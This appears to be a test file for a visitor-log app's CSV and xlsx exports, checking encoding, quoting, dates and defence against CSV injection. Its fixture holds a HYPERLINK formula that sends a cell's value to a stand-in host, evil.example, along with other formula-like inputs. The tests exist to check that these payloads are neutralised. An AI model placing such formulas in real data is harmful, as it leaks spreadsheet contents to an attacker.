import { readFileSync } from 'node:fs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvCell, csvLine, looksLikeFormula } from '../../main/files/spreadsheet-cells';
import { csvRows, exportFile, xlsxRows } from '../helpers/exports';
import { makeTestCore, WALK_IN, type TestCore } from '../helpers/test-core';

/*
 * What a spreadsheet makes of the file: UTF-8 with a BOM and CRLF lines
 * (Excel and WPS read Chinese correctly), text that starts like a formula
 * kept as text (CSV injection), dates as real dates in a workbook, the
 * header frozen and the columns wide enough.
 */

const clock = new Date('2026-12-03T09:10:00');
let core: TestCore;
const HOSTILE = { name: '-2-3', company: '=HYPERLINK("http://evil.example/?d="&A1,"点我")', host: '+1+1', purpose: '@SUM(1+1)' };

beforeAll(async () => {
  core = await makeTestCore({ now: () => clock });
  await core.call('visits.checkIn', { ...WALK_IN, ...HOSTILE, idType: undefined });
});
afterAll(() => core.cleanup());

describe('the shared cell rule (audit export and data exports)', () => {
  it.each(['=1+1', '+1', '-1', '@A1', '\t=1', '\r=1'])('%j looks like a formula and gets a leading apostrophe in CSV', (text) => {
    expect(looksLikeFormula(text)).toBe(true);
    expect(csvCell(text).replace(/^"|"$/g, '').startsWith(`'${text[0]}`)).toBe(true);
  });

  it('quotes what RFC 4180 says, and leaves numbers and plain text as they are', () => {
    expect(csvLine(['a,b', 'say "hi"', 'two\nlines', 12, -3, null, '张伟'])).toBe('"a,b","say ""hi""","two\nlines",12,-3,,张伟\r\n');
  });
});

describe('CSV', () => {
  it('starts with a BOM, ends its lines with CRLF, and neutralises every formula-looking cell', async () => {
    const place = await exportFile(core, { dataset: 'visits', filters: {}, format: 'csv' });
    const bytes = readFileSync(place);
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = bytes.toString('utf8');
    expect(text.split('\r\n').length).toBe(3);
    expect(text.replace(/\r\n/g, '')).not.toMatch(/\n/);
    const [, row] = await csvRows(place);
    expect(row!.slice(2, 4)).toEqual([`'${HOSTILE.name}`, `'${HOSTILE.company}`]);
    expect(row!.slice(7, 9)).toEqual([`'${HOSTILE.host}`, `'${HOSTILE.purpose}`]);
    // Times as the desk's clock showed them.
    expect(row![0]).toBe('2026-12-03 09:10');
  });
});

describe('xlsx', () => {
  it('keeps formula-looking text as text cells (never formulas), dates as dates, header frozen, columns sized', async () => {
    const { rows, sheet } = await xlsxRows(await exportFile(core, { dataset: 'visits', filters: {}, format: 'xlsx' }));
    expect(rows[0]![0]).toBe('入场时间');
    const row = sheet.getRow(2);
    for (const [col, text] of [[3, HOSTILE.name], [4, HOSTILE.company], [8, HOSTILE.host], [9, HOSTILE.purpose]] as const) {
      const cell = row.getCell(col);
      expect(cell.value).toBe(text);
      expect(cell.type).toBe(3); // ValueType.String: no formula
      expect(cell.numFmt).toBe('@');
    }
    const checkIn = row.getCell(1);
    expect(checkIn.value).toBeInstanceOf(Date);
    // Excel dates have no zone: the serial is the desk's wall clock (read back through the Date's UTC fields).
    expect((checkIn.value as Date).toISOString()).toBe('2026-12-03T09:10:00.000Z');
    expect(checkIn.numFmt).toBe('yyyy-mm-dd hh:mm');
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    expect(sheet.getColumn(4).width).toBeGreaterThanOrEqual(20);
    expect(sheet.name).toBe('来访记录');
  });
});
